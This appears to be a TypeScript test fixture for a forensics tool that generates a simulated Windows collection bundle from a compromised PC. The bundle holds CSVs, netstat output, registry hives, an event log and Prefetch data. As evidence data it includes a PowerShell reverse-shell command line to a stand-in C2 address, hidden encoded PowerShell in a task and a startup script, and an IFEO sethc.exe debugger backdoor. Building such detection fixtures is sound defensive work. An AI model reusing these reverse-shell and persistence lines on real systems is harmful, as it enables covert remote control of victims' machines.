/**
 * A bundle as the Windows collector (src/collect/windows.ps1) writes it, built from generated evidence:
 * `konseki-collect-<host>-<UTC time>/` with the CSV files in the exact format of Windows PowerShell 5.1's
 * `Export-Csv -NoTypeInformation -Encoding UTF8` (UTF-8 BOM, CRLF, header row, every value quoted, ""
 * for a quote, line breaks inside quotes, empty for $null), raw command outputs (`netstat -anob`,
 * `route print`), an .evtx from konseki's EVTX writer, SYSTEM and Amcache hives from the hive writer,
 * a Prefetch file from the Prefetch writer, manifest.sha256, then zipped with the .zip.sha256 beside it.
 * The story: a user's PC runs an implant from %TEMP% that listens on 4444 and talks to a C&C address,
 * a PowerShell reverse shell, and persists as a service, a task, Run keys, an IFEO debugger, a WMI
 * consumer and a startup-folder script.
 */
import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { writeEvtx } from '../../../src/sources/evtx/writer.ts';
import { reg, writeHive } from '../windows/hive-writer.ts';
import { writePrefetch } from '../windows/prefetch-writer.ts';
import { writeShimcache } from '../windows/shimcache-writer.ts';

export const HOST = 'PC-SALES07';
export const STAMP = '20261014T030000Z';
export const COLLECTED_US = Date.UTC(2026, 9, 14, 3, 0, 0) * 1000;
export const C2 = '198.51.100.7';
export const IMPLANT = 'C:\\Users\\tanaka\\AppData\\Local\\Temp\\svch0st.exe';

/** One value as Export-Csv writes it. */
function cell(v: string | number | null | undefined): string {
  return `"${v === null || v === undefined ? '' : String(v).replace(/"/g, '""')}"`;
}

/** A whole Export-Csv file (PowerShell 5.1, -Encoding UTF8 -NoTypeInformation). */
export function exportCsv(columns: string[], rows: Array<Record<string, string | number | null>>): Buffer {
  const lines = [columns.map(cell).join(','), ...rows.map((r) => columns.map((c) => cell(r[c])).join(','))];
  return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${lines.join('\r\n')}\r\n`, 'utf8')]);
}

const iso = (minutesBefore: number): string =>
  new Date(COLLECTED_US / 1000 - minutesBefore * 60_000).toISOString().replace(/Z$/, 'Z');

const ft = (us: number): bigint => BigInt(us) * 10n + 116444736000000000n;

export function writeWindowsBundle(dir: string): { zip: string; root: string } {
  const name = `konseki-collect-${HOST}-${STAMP}`;
  const root = join(dir, name);
  for (const d of ['volatile', 'persistence', 'logs', 'registry', 'artifacts/Prefetch', 'fs/Startup'])
    mkdirSync(join(root, d), { recursive: true });
  const w = (p: string, data: Buffer | string): void => writeFileSync(join(root, p), data);

  const procCols = [
    'ProcessId',
    'ParentProcessId',
    'Name',
    'ExecutablePath',
    'CommandLine',
    'CreationDate',
    'Owner',
    'SessionId',
    'ExecutableExists',
    'ExecutableSha256',
    'IsCollector',
  ];
  const proc = (
    pid: number,
    ppid: number,
    name: string,
    path: string | null,
    cmd: string | null,
    minutes: number,
    owner: string,
    extra: Record<string, string> = {},
  ) => ({
    ProcessId: pid,
    ParentProcessId: ppid,
    Name: name,
    ExecutablePath: path,
    CommandLine: cmd,
    CreationDate: iso(minutes),
    Owner: owner,
    SessionId: pid < 1000 ? 0 : 1,
    ExecutableExists: path ? 'True' : '',
    ExecutableSha256: path ? createHash('sha256').update(path).digest('hex') : '',
    IsCollector: 'False',
    ...extra,
  });
  w(
    'volatile/processes.csv',
    exportCsv(procCols, [
      proc(4, 0, 'System', null, null, 9000, ''),
      proc(688, 4, 'services.exe', 'C:\\Windows\\System32\\services.exe', null, 9000, 'NT AUTHORITY\\SYSTEM'),
      proc(3104, 3080, 'explorer.exe', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 600, 'CORP\\tanaka'),
      proc(5120, 3104, 'svch0st.exe', IMPLANT, `"${IMPLANT}" -k netsvcs`, 180, 'CORP\\tanaka'),
      proc(
        5240,
        5120,
        'powershell.exe',
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'powershell -nop -w hidden -c "$c=New-Object System.Net.Sockets.TCPClient(\'198.51.100.7\',443);$s=$c.GetStream()"\r\n# second line',
        170,
        'CORP\\tanaka',
      ),
      proc(
        6000,
        3104,
        'chrome.exe',
        'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
        'chrome.exe',
        60,
        'CORP\\tanaka',
      ),
      proc(
        7000,
        3104,
        'powershell.exe',
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'powershell -ExecutionPolicy Bypass -File E:\\konseki-collect.ps1 -Out E:\\collect',
        1,
        'CORP\\admin',
        { IsCollector: 'True' },
      ),
      proc(7010, 7000, 'reg.exe', 'C:\\Users\\Public\\reg.exe', 'reg save HKLM\\SYSTEM E:\\x', 0, 'CORP\\admin'),
    ]),
  );
  w(
    'volatile/sockets.csv',
    exportCsv(
      [
        'Protocol',
        'LocalAddress',
        'LocalPort',
        'RemoteAddress',
        'RemotePort',
        'State',
        'OwningProcess',
        'ProcessName',
        'ProcessPath',
        'CreationTime',
      ],
      [
        {
          Protocol: 'TCP',
          LocalAddress: '0.0.0.0',
          LocalPort: 135,
          RemoteAddress: '0.0.0.0',
          RemotePort: 0,
          State: 'Listen',
          OwningProcess: 688,
          ProcessName: 'services.exe',
          ProcessPath: 'C:\\Windows\\System32\\services.exe',
          CreationTime: iso(9000),
        },
        {
          Protocol: 'TCP',
          LocalAddress: '0.0.0.0',
          LocalPort: 4444,
          RemoteAddress: '0.0.0.0',
          RemotePort: 0,
          State: 'Listen',
          OwningProcess: 5120,
          ProcessName: 'svch0st.exe',
          ProcessPath: IMPLANT,
          CreationTime: iso(179),
        },
        {
          Protocol: 'TCP',
          LocalAddress: '10.10.1.27',
          LocalPort: 51544,
          RemoteAddress: C2,
          RemotePort: 443,
          State: 'Established',
          OwningProcess: 5120,
          ProcessName: 'svch0st.exe',
          ProcessPath: IMPLANT,
          CreationTime: iso(178),
        },
        {
          Protocol: 'TCP',
          LocalAddress: '10.10.1.27',
          LocalPort: 51600,
          RemoteAddress: '203.0.113.80',
          RemotePort: 443,
          State: 'Established',
          OwningProcess: 6000,
          ProcessName: 'chrome.exe',
          ProcessPath: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
          CreationTime: iso(5),
        },
        {
          Protocol: 'UDP',
          LocalAddress: '0.0.0.0',
          LocalPort: 5353,
          RemoteAddress: '',
          RemotePort: '',
          State: 'Bound',
          OwningProcess: 6000,
          ProcessName: 'chrome.exe',
          ProcessPath: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
          CreationTime: iso(50),
        },
      ],
    ),
  );
  // netstat -anob: header, then per connection a line and the owning binary on the next line
  w(
    'volatile/netstat.txt',
    [
      '',
      'Active Connections',
      '',
      '  Proto  Local Address          Foreign Address        State',
      '  TCP    0.0.0.0:135            0.0.0.0:0              LISTENING',
      '  RpcSs',
      ' [svchost.exe]',
      '  TCP    0.0.0.0:4444           0.0.0.0:0              LISTENING',
      ' [svch0st.exe]',
      `  TCP    10.10.1.27:51544       ${C2}:443       ESTABLISHED`,
      ' [svch0st.exe]',
      '',
    ].join('\r\n'),
  );
  w(
    'volatile/route.txt',
    [
      '===========================================================================',
      'IPv4 Route Table',
      '===========================================================================',
      'Active Routes:',
      'Network Destination        Netmask          Gateway       Interface  Metric',
      '          0.0.0.0          0.0.0.0       10.10.1.1      10.10.1.27     25',
      '',
    ].join('\r\n'),
  );
  w(
    'persistence/services.csv',
    exportCsv(
      ['Name', 'DisplayName', 'State', 'StartMode', 'PathName', 'StartName', 'ProcessId'],
      [
        {
          Name: 'Spooler',
          DisplayName: 'Print Spooler',
          State: 'Running',
          StartMode: 'Auto',
          PathName: 'C:\\Windows\\System32\\spoolsv.exe',
          StartName: 'LocalSystem',
          ProcessId: 1500,
        },
        {
          Name: 'UpdaterSvc',
          DisplayName: 'Windows Updater',
          State: 'Running',
          StartMode: 'Auto',
          PathName: '"C:\\ProgramData\\Updater\\updater.exe" /svc',
          StartName: 'LocalSystem',
          ProcessId: 2100,
        },
      ],
    ),
  );
  w(
    'persistence/tasks.csv',
    exportCsv(
      ['TaskPath', 'TaskName', 'State', 'Author', 'UserId', 'RunLevel', 'Date', 'Actions', 'Triggers'],
      [
        {
          TaskPath: '\\Microsoft\\Windows\\Defrag\\',
          TaskName: 'ScheduledDefrag',
          State: 'Ready',
          Author: 'Microsoft Corporation',
          UserId: 'SYSTEM',
          RunLevel: 'Highest',
          Date: '2019-12-07T09:08:59',
          Actions: '%windir%\\system32\\defrag.exe -c -h -o -$',
          Triggers: '',
        },
        {
          TaskPath: '\\',
          TaskName: 'OneDrive Sync',
          State: 'Ready',
          Author: 'CORP\\tanaka',
          UserId: 'tanaka',
          RunLevel: 'Limited',
          Date: iso(175),
          Actions: 'powershell.exe -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA',
          Triggers: 'MSFT_TaskLogonTrigger',
        },
        {
          TaskPath: '\\',
          TaskName: 'Backup',
          State: 'Ready',
          Author: 'CORP\\admin',
          UserId: 'SYSTEM',
          RunLevel: 'Highest',
          Date: iso(60 * 24 * 30),
          Actions: 'C:\\Tools\\backup.exe',
          Triggers: 'MSFT_TaskDailyTrigger',
        },
      ],
    ),
  );
  w(
    'persistence/runkeys.csv',
    exportCsv(
      ['Hive', 'Key', 'Name', 'Value'],
      [
        {
          Hive: 'HKLM:',
          Key: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
          Name: 'SecurityHealth',
          Value: '%windir%\\system32\\SecurityHealthSystray.exe',
        },
        {
          Hive: 'Registry::HKEY_USERS\\S-1-5-21-1-2-3-1105',
          Key: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
          Name: 'svch0st',
          Value: IMPLANT,
        },
        {
          Hive: 'HKLM:',
          Key: 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe',
          Name: 'Debugger',
          Value: 'C:\\Windows\\System32\\cmd.exe',
        },
        {
          Hive: 'HKLM:',
          Key: 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon',
          Name: 'Userinit',
          Value: 'C:\\Windows\\system32\\userinit.exe,',
        },
      ],
    ),
  );
  w(
    'persistence/wmi.csv',
    exportCsv(
      ['Class', 'Name', 'Detail'],
      [
        { Class: '__EventFilter', Name: 'SCM Event Log Filter', Detail: 'select * from MSFT_SCMEventLogEvent' },
        {
          Class: 'CommandLineEventConsumer',
          Name: 'Updater',
          Detail: 'C:\\Windows\\System32\\cmd.exe /c "C:\\ProgramData\\Updater\\updater.exe"',
        },
        {
          Class: '__FilterToConsumerBinding',
          Name: '',
          Detail: '__EventFilter.Name="Updater" -> CommandLineEventConsumer.Name="Updater"',
        },
      ],
    ),
  );
  w(
    'persistence/startup.csv',
    exportCsv(
      ['Path', 'Size', 'CreationTimeUtc', 'LastWriteTimeUtc', 'Sha256'],
      [
        {
          Path: 'C:\\Users\\tanaka\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\OneNote.lnk',
          Size: 1200,
          CreationTimeUtc: iso(90000),
          LastWriteTimeUtc: iso(90000),
          Sha256: '',
        },
        {
          Path: 'C:\\Users\\tanaka\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.bat',
          Size: 80,
          CreationTimeUtc: iso(176),
          LastWriteTimeUtc: iso(176),
          Sha256: '',
        },
      ],
    ),
  );
  // event log, hives, Prefetch: konseki's own writers
  writeEvtx(join(root, 'logs', 'Security.evtx'), [
    {
      provider: 'Microsoft-Windows-Security-Auditing',
      eventId: 4688,
      version: 2,
      time: COLLECTED_US - 180 * 60e6,
      channel: 'Security',
      computer: `${HOST}.corp.example`,
      eventData: {
        NewProcessName: IMPLANT,
        CommandLine: `"${IMPLANT}" -k netsvcs`,
        ParentProcessName: 'C:\\Windows\\explorer.exe',
        SubjectUserName: 'tanaka',
      },
    },
  ]);
  w(
    'registry/SYSTEM',
    writeHive({
      name: 'ROOT',
      subkeys: [
        {
          name: 'ControlSet001',
          subkeys: [
            {
              name: 'Control',
              subkeys: [
                {
                  name: 'Session Manager',
                  subkeys: [
                    {
                      name: 'AppCompatCache',
                      values: [
                        {
                          name: 'AppCompatCache',
                          type: 3,
                          data: writeShimcache('win10', [
                            { path: IMPLANT, lastModified: ft(COLLECTED_US - 200 * 60e6) },
                          ]),
                        },
                      ],
                    },
                  ],
                },
              ],
            },
          ],
        },
        { name: 'Select', values: [{ name: 'Current', type: 4, data: reg.dword(1) }] },
      ],
    }),
  );
  w(
    'artifacts/Amcache.hve',
    writeHive({
      name: '{11517B7C-E79D-4E20-961B-75A811715ADD}', // Amcache.hve's root key, as Windows names it
      subkeys: [
        {
          name: 'Root',
          subkeys: [
            {
              name: 'InventoryApplicationFile',
              subkeys: [
                {
                  name: 'svch0st.exe|1a2b3c4d',
                  lastWritten: ft(COLLECTED_US - 181 * 60e6),
                  values: [
                    { name: 'LowerCaseLongPath', type: 1, data: reg.sz(IMPLANT.toLowerCase()) },
                    { name: 'Name', type: 1, data: reg.sz('svch0st.exe') },
                    { name: 'FileId', type: 1, data: reg.sz('0000a94a8fe5ccb19ba61c4c0873d391e987982fbbd3') },
                    { name: 'Size', type: 11, data: reg.qword(73_216n) },
                  ],
                },
              ],
            },
          ],
        },
      ],
    }),
  );
  w(
    'artifacts/Prefetch/SVCH0ST.EXE-1A2B3C4D.pf',
    writePrefetch({
      version: 30,
      executable: 'SVCH0ST.EXE',
      hash: 0x1a2b3c4d,
      runCount: 3,
      runs: [ft(COLLECTED_US - 180 * 60e6)],
      filenames: ['\\VOLUME{01d9aa}\\USERS\\TANAKA\\APPDATA\\LOCAL\\TEMP\\SVCH0ST.EXE'],
      volumes: [
        { devicePath: '\\VOLUME{01d9aa}', created: ft(COLLECTED_US - 9e11), serial: 0x1234, directories: ['\\USERS'] },
      ],
    }),
  );
  w(
    'fs/Startup/Users_tanaka_AppData_Roaming_Microsoft_Windows_Start Menu_Programs_Startup_update.bat',
    'powershell -w hidden -enc SQBFAFgA\r\n',
  );
  w('meta.txt', `collector=konseki-windows\nversion=test\nhost=${HOST}\n`);
  w(
    'collect.log',
    `2026-10-14T03:00:00Z\tstart\tkonseki collector test on ${HOST}\n2026-10-14T03:05:00Z\tfinish\tdone\n`,
  );
  // manifest: sha256sum format, forward slashes, as the script writes it
  const files: string[] = [];
  const walk = (d: string): void => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, e.name);
      if (e.isDirectory()) walk(p);
      else files.push(p);
    }
  };
  walk(root);
  const manifest = files
    .sort()
    .map(
      (p) =>
        `${createHash('sha256').update(readFileSync(p)).digest('hex')}  ./${relative(root, p).replace(/\\/g, '/')}`,
    )
    .join('\n');
  w('manifest.sha256', `${manifest}\n`);
  const zip = join(dir, `${name}.zip`);
  execFileSync('python3', [
    '-c',
    'import sys, zipfile, os\nroot, out = sys.argv[1], sys.argv[2]\nbase = os.path.dirname(root)\nwith zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:\n  for d, _, fs in os.walk(root):\n    for f in sorted(fs):\n      p = os.path.join(d, f); z.write(p, os.path.relpath(p, base).replace(os.sep, "\\\\"))',
    root,
    zip,
  ]);
  writeFileSync(`${zip}.sha256`, `${createHash('sha256').update(readFileSync(zip)).digest('hex')}  ${name}.zip\n`);
  if (statSync(zip).size < 1000) throw new Error('zip not written');
  return { zip, root };
}
